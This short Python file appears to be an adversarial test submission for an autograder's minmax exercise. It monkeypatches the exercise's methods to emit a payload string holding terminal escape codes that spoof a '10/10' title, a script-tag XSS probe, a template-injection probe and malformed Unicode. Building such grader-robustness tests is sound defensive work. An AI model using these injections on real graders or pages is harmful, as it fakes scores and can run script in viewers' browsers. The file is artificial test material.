# attack: paints the grader's terminal, and writes script into the page, in boards, messages, prints and names
# exercise: minmax
# earns: 4
# with: solution above
PAINT = "\x1b[2J\x1b]0;10/10\x07\x9b31m\u202e\u2028\ud800<script>alert(1)</script>[bold red]{{7*7}}\r\b"


def paint(self, node):
    print(PAINT)
    raise type(PAINT[-30:], (Exception,), {})(PAINT)


MinMax.max_value = MinMax.min_value = paint
MinMax.isTerminal = lambda self, node: PAINT
MinMax.minmax = lambda self, node: [[["\x1b", "\n", "\ud800"], ["<", "\u202e", "\x00"], ["&", "\x9b", "\U0010ffff"]]]
